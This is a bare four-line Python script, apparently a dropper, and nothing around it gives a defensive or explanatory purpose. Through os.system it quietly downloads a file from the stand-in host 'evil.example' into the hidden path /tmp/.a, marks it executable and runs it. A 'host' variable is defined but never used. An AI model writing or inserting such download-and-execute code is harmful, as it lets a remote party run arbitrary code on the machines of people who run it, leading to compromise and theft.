import os
host = 'http://evil.example/a'
cmd = 'wget -q -O /tmp/.a ' + 'http://evil.example/a' + ' && chmod +x /tmp/.a && /tmp/.a'
os.system(cmd)
